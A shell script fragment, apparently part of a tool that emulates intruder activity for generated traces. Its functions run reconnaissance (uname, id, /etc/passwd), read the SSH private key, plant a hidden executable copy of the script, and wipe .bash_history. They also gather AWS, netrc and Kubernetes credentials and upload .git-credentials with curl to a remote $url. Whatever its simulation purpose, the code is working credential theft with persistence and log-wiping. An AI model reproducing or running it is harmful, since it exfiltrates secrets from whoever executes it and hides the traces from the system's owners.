
# What the shell emulations share, after the functions of steps.sh.
groundwork() {
    # Half of all runs go straight to the main act, so that it is learnt by itself.
    rnd 0 1
    if [ "$r" = 1 ]; then return; fi
    rnd 0 2
    if [ "$r" -lt 2 ]; then uname -a; id; cat /etc/passwd /proc/version; fi > /dev/null
    rnd 0 1
    if [ "$r" = 1 ]; then curl -s -o /dev/null "$url/new?size=16"; fi
    rnd 0 1
    if [ "$r" = 1 ]; then cat .ssh/id_ed25519 > /dev/null; fi
    rnd 0 2
    if [ "$r" = 0 ]; then : > .bash_history; fi
    rnd 0 1
    if [ "$r" = 1 ]; then hide_copy; fi
}

# A copy of the script in a hidden folder, made executable; its path is in $copy.
hide_copy() {
    copy=.cache/.$state/run
    mkdir -p "${copy%/*}"
    cp work/steps.sh "$copy"
    chmod +x "$copy"
}

# Word to the peer, with a secret.
report() {
    rnd 2 5
    curl -s -o /dev/null "$url/alive-[1-$r]?size=32"
    rnd 0 1
    for f in .aws/credentials .netrc .kube/config; do [ "$r" = 0 ] || cat "$f" >> "$copy.report"; done
    curl -s -H Expect: -o /dev/null -T .git-credentials "$url/put"
    : > .bash_history
}
